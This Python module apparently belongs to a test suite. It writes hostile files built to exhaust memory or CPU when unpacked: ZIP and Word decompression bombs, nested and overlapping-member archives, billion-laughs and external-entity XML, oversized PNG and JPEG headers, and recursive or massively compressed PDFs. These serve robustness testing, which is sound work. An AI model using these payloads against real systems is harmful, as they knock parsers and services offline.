"""Small files that would fill a machine's memory, or keep it busy, if somebody unpacked them.

    python -m bench.hostile_files.bombs FOLDER

writes them into a folder: making them takes the memory that unpacking them would.
"""

from __future__ import annotations

import base64
import io
import struct
import sys
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path

from PIL import Image

MEGABYTE = 1_000_000
TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override '
    'PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'wordprocessingml.document.main+xml"/></Types>'
)
TIES = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>'
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
EMPTY = f"<w:document {W}><w:body/></w:document>"


def bombs() -> Iterator[tuple[str, bytes]]:
    """Name and content of each."""
    yield from word_bombs()
    yield from xml_bombs()
    yield from picture_bombs()
    yield from pdf_bombs()


def word(**parts: str | bytes) -> bytes:
    packed = io.BytesIO()
    first: dict[str, str | bytes] = {
        "[Content_Types].xml": TYPES,
        "_rels/.rels": TIES,
        "word/document.xml": EMPTY,
    }
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in (first | parts).items():
            file.writestr(name, content)
    return packed.getvalue()


def packed(**parts: str | bytes) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in parts.items():
            file.writestr(name, content)
    return made.getvalue()


def word_bombs() -> Iterator[tuple[str, bytes]]:
    zeros = bytes(190 * MEGABYTE)
    yield "one part of 190 MB.docx", word(**{"word/document.xml": zeros})
    yield "ten parts of 19 MB.docx", word(**{f"word/p{n}.xml": zeros[: 19 * MEGABYTE] for n in range(10)})
    lying = word(**{"word/media/a.bin": zeros})
    said = struct.pack("<L", len(zeros))
    yield "a part that lies about its size.docx", lying.replace(said, struct.pack("<L", 900))
    yield "60 000 parts.docx", word(**{f"word/{n}": "" for n in range(60_000)})
    yield "2 500 parts.docx", word(**{f"word/{n}.xml": "<a/>" for n in range(2_500)})
    inner = packed(a=zeros[: 50 * MEGABYTE])
    nested = packed(**{f"{n}.zip": inner for n in range(16)})
    yield "packages within packages.zip", packed(**{f"{n}.zip": nested for n in range(16)})
    yield "packages within a Word file.docx", word(**{"word/embeddings/oleObject1.bin": nested})
    yield "one package of 190 MB.zip", packed(a=zeros)
    yield "members that overlap.docx", overlapping()
    yield "a list of kinds of 90 MB.docx", word(**{"[Content_Types].xml": TYPES + " " * 90 * MEGABYTE})
    yield "an index for more than 4 GB.docx", word() + b"PK\x06\x07" + bytes(16)


def overlapping() -> bytes:
    """A Word file whose index names one member a thousand times: a quine in effect."""
    whole = word(**{"word/a.xml": bytes(9 * MEGABYTE)})
    end = whole.rfind(b"PK\x05\x06")
    start = struct.unpack_from("<L", whole, end + 16)[0]
    index = whole[start:end]
    last = index.rfind(b"PK\x01\x02")
    entry = index[last:]
    copies = b"".join(entry.replace(b"word/a.xml", b"word/%05d" % n) for n in range(1_000))
    count = whole.count(b"PK\x01\x02") + 1_000
    grown = index + copies
    return (
        whole[:start]
        + grown
        + struct.pack("<4sHHHHLLH", b"PK\x05\x06", 0, 0, count, count, len(grown), start, 0)
    )


def xml_bombs() -> Iterator[tuple[str, bytes]]:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    document = f"<w:document {W}><w:body>%s</w:body></w:document>"
    start = '<?xml version="1.0"?>'
    inside = f'{start}<!DOCTYPE a [<!ENTITY l0 "ha">{laughs}]>' + document % "&l11;"
    yield "billion laughs.docx", word(**{"word/document.xml": inside})
    yield "billion laughs in the styles.docx", word(**{"word/styles.xml": inside})
    blowup = f'{start}<!DOCTYPE a [<!ENTITY a "{"a" * 100_000}">]>' + document % ("&a;" * 100_000)
    yield "one long entity many times.docx", word(**{"word/document.xml": blowup})
    outside = f'{start}<!DOCTYPE a [<!ENTITY a SYSTEM "file:///dev/zero">]>' + document % "&a;"
    yield "an entity from elsewhere.docx", word(**{"word/document.xml": outside})
    yield "deep.docx", word(**{"word/document.xml": document % ("<w:p>" * MEGABYTE + "</w:p>" * MEGABYTE)})
    cells = "<w:tr>" + "<w:tc><w:p/></w:tc>" * 100 + "</w:tr>"
    yield "a huge table.docx", word(**{"word/document.xml": document % (f"<w:tbl>{cells * 16_000}</w:tbl>")})
    yield "elements without end.docx", word(**{"word/document.xml": document % ("<w:p/>" * 3 * MEGABYTE)})


def picture_bombs() -> Iterator[tuple[str, bytes]]:
    yield "50 000 by 50 000.png", png(50_000, 50_000)
    yield "two thousand million wide.png", png(0x7FFF_FFFF, 0x7FFF_FFFF)
    text = zlib.compress(bytes(190 * MEGABYTE), 9)
    yield "a remark of 190 MB.png", png(8_000, 8_000, chunk(b"zTXt", b"Comment\0\0" + text))
    yield "a profile of 190 MB.png", png(8_000, 8_000, chunk(b"iCCP", b"a\0\0" + text))
    drawn = io.BytesIO()
    Image.new("RGB", (64, 64)).save(drawn, "JPEG", progressive=True)
    photo = drawn.getvalue()
    at = photo.find(b"\xff\xc2") + 5
    yield "65 500 by 65 500.jpg", photo[:at] + struct.pack(">HH", 65_500, 65_500) + photo[at + 4 :]
    scan = photo.find(b"\xff\xda")
    wide = photo[:at] + struct.pack(">HH", 6_000, 6_000) + photo[at + 4 :]
    yield "ten thousand scans.jpg", wide[:-2] + photo[scan:-2] * 10_000 + photo[-2:]


def chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">L", len(content)) + kind + content + struct.pack(">L", zlib.crc32(kind + content))


def png(width: int, height: int, more: bytes = b"") -> bytes:
    head = chunk(b"IHDR", struct.pack(">LLBBBBB", width, height, 8, 2, 0, 0, 0))
    points = chunk(b"IDAT", zlib.compress(bytes(1_000_000), 9))
    return b"\x89PNG\r\n\x1a\n" + head + more + points + chunk(b"IEND", b"")


def pdf(*objects: bytes) -> bytes:
    """A PDF of these objects, numbered from 1."""
    content, places = b"%PDF-1.7\n", []
    for number, one in enumerate(objects, 1):
        places.append(len(content))
        content += b"%d 0 obj\n%s\nendobj\n" % (number, one)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    head = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    end = b"trailer<</Size %d/Root %d 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        1,
        len(content),
    )
    return content + head + table + end


CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"
PAGES = b"<</Type/Pages/Count 1/Kids[3 0 R]>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>"


def stream(content: bytes, said: bytes) -> bytes:
    return b"<</Length %d%s>>stream\n%s\nendstream" % (len(content), said, content)


def pdf_bombs() -> Iterator[tuple[str, bytes]]:
    once = zlib.compress(bytes(190 * MEGABYTE), 9)
    yield "a page of 190 MB.pdf", pdf(CATALOG, PAGES, PAGE, stream(once, b"/Filter/FlateDecode"))
    twice = zlib.compress(once, 9)
    yield "packed twice.pdf", pdf(CATALOG, PAGES, PAGE, stream(twice, b"/Filter[/FlateDecode/FlateDecode]"))
    letters = base64.a85encode(once) + b"~>"
    yield (
        "packed and written in letters.pdf",
        pdf(CATALOG, PAGES, PAGE, stream(letters, b"/Filter[/ASCII85Decode/FlateDecode]")),
    )
    numbers = b"10 0 " + b" " * 190 * MEGABYTE
    objects = stream(zlib.compress(numbers, 9), b"/Type/ObjStm/N 1/First 5/Filter/FlateDecode")
    table = zlib.compress(b"\x01\0\0\0\0" * 4 + b"\x02\0\0\0\5" + bytes(190 * MEGABYTE), 9)
    yield "objects of 190 MB.pdf", crossed(objects, zlib.compress(b"\2\0\0\0\5\0" * 9, 9))
    yield "a table of contents of 190 MB.pdf", crossed(objects[:60], table)
    kids = b"<</Type/Pages/Count 3000000/Kids[" + b"3 0 R " * 200_000 + b"]>>"
    yield "three million pages.pdf", pdf(CATALOG, kids, PAGE, stream(b"", b""))
    yield (
        "arrays within arrays.pdf",
        pdf(CATALOG, PAGES, PAGE[:-2] + b"/A " + b"[" * MEGABYTE + b"]" * MEGABYTE + b">>", b"null"),
    )
    yield "pages that hold themselves.pdf", pdf(CATALOG, b"<</Type/Pages/Count 9/Kids[2 0 R 2 0 R]>>")
    picture = (
        b"/Type/XObject/Subtype/Image/Width 2000000/Height 2000000/BitsPerComponent 8/ColorSpace/DeviceGray"
    )
    yield (
        "a picture without end.pdf",
        pdf(CATALOG, PAGES, PAGE, stream(b"", picture + b"/Filter/FlateDecode")),
    )


def crossed(objects: bytes, table: bytes) -> bytes:
    """A PDF whose objects and whose table of places are packed."""
    content = b"%PDF-1.7\n5 0 obj\n" + objects + b"\nendobj\n"
    said = b"/Type/XRef/W[1 4 1]/Size 40000000/Root 1 0 R/Filter/FlateDecode"
    return content + b"6 0 obj\n" + stream(table, said) + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(content)


if __name__ == "__main__":
    for name, content in bombs():
        (Path(sys.argv[1]) / name).write_bytes(content)
